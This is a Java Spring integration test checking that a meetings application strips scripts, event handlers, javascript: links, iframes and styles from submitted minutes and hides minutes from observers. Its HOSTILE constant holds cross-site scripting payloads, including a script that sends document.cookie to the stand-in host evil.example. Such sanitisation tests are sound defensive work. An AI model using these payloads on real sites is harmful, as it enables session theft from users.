package com.wbiisg.mapping.meetings;

import com.jayway.jsonpath.JsonPath;
import com.wbiisg.mapping.IntegrationTest;
import com.wbiisg.mapping.identity.internal.AccountAdministration;
import com.wbiisg.mapping.meetings.MeetingFixtures.Who;
import com.wbiisg.mapping.membership.Membership;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Minutes keep their formatting and lose everything that could run: scripts, event
 * handlers, javascript: links, styles and frames are removed before they are stored, and
 * the page shows what was stored, cleaned again.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class MinutesSanitisationIntegrationTests {

	static final String HOSTILE = """
			<h2>Decisions</h2>
			<p onclick="steal()">All participants <strong>agreed</strong> with the four-pillar proposal.</p>
			<script>document.location='https://evil.example/?c='+document.cookie</script>
			<img src=x onerror="alert(1)">
			<ul><li><a href="javascript:alert(2)">click</a></li><li><a href="https://wb-iisg.com/wbcti/">WBCTi</a></li></ul>
			<iframe src="https://evil.example"></iframe><style>body{display:none}</style>
			<a href="JaVaScRiPt:alert(3)" onmouseover="alert(4)">again</a><svg onload="alert(5)"></svg>""";

	@Autowired
	MockMvc mvc;

	@Autowired
	UserDetailsService users;

	@Autowired
	AccountAdministration accounts;

	@Autowired
	Membership membership;

	private MeetingFixtures fixtures;

	@BeforeAll
	void prepare() {
		this.fixtures = new MeetingFixtures(this.mvc, this.users, this.accounts, this.membership);
	}

	@Test
	void storesMinutesFromTheApiCleaned() throws Exception {
		long meeting = this.fixtures.meeting("Minutes by API", "held", false);
		String json = this.mvc
			.perform(put("/api/v1/meetings/" + meeting + "/minutes").with(this.fixtures.as(Who.SECRETARIAT))
				.contentType(MediaType.APPLICATION_JSON)
				.content("{\"minutes\": %s, \"version\": 0}".formatted(quote(HOSTILE))))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		String stored = JsonPath.read(json, "$.minutes");
		assertClean(Jsoup.parseBodyFragment(stored));
		assertThat(stored).contains("<h2>Decisions</h2>", "<strong>agreed</strong>",
				"<a href=\"https://wb-iisg.com/wbcti/\" rel=\"nofollow\">WBCTi</a>");
	}

	@Test
	void storesMinutesFromThePageCleanedAndShowsThemClean() throws Exception {
		long meeting = this.fixtures.meeting("Minutes by page", "held", false);
		this.mvc
			.perform(post("/meetings/" + meeting + "/minutes").with(this.fixtures.as(Who.SECRETARIAT))
				.with(csrf())
				.param("minutes", HOSTILE)
				.param("version", "0"))
			.andExpect(status().is3xxRedirection());
		String page = this.mvc.perform(get("/meetings/" + meeting).with(this.fixtures.as(Who.MK)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		Element minutes = Jsoup.parse(page).getElementById("minutes-text");
		assertThat(minutes).isNotNull();
		assertThat(minutes.select("strong").text()).isEqualTo("agreed");
		assertClean(Jsoup.parseBodyFragment(minutes.html()));
		assertThat(page).doesNotContain("evil.example").doesNotContain("alert(");
	}

	@Test
	void takesPlainTextAsParagraphs() throws Exception {
		long meeting = this.fixtures.meeting("Plain minutes", "held", false);
		String json = this.mvc
			.perform(put("/api/v1/meetings/" + meeting + "/minutes").with(this.fixtures.as(Who.SECRETARIAT))
				.contentType(MediaType.APPLICATION_JSON)
				.content("{\"minutes\": \"First line\\nsecond line\\n\\nSecond paragraph & more\", \"version\": 0}"))
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat((String) JsonPath.read(json, "$.minutes"))
			.isEqualTo("<p>First line<br>second line</p><p>Second paragraph &amp; more</p>");
	}

	@Test
	void observersSeeNoMinutes() throws Exception {
		long meeting = this.fixtures.meeting("Minutes hidden from observers", "held", false);
		this.mvc.perform(put("/api/v1/meetings/" + meeting + "/minutes").with(this.fixtures.as(Who.SECRETARIAT))
			.contentType(MediaType.APPLICATION_JSON)
			.content("{\"minutes\": \"<p>Confidential discussion</p>\", \"version\": 0}"));
		String page = this.mvc.perform(get("/meetings/" + meeting).with(this.fixtures.as(Who.OBSERVER)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(page).doesNotContain("Confidential discussion").contains("id=\"observer-note\"");
	}

	private static void assertClean(Document document) {
		assertThat(document.select("script, iframe, style, img, svg")).isEmpty();
		for (Element element : document.getAllElements()) {
			element.attributes()
				.forEach((attribute) -> assertThat(attribute.getKey()).as(element.tagName()).doesNotStartWith("on"));
			assertThat(element.attr("href").toLowerCase()).doesNotContain("javascript:");
		}
	}

	private static String quote(String text) {
		return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
	}

}
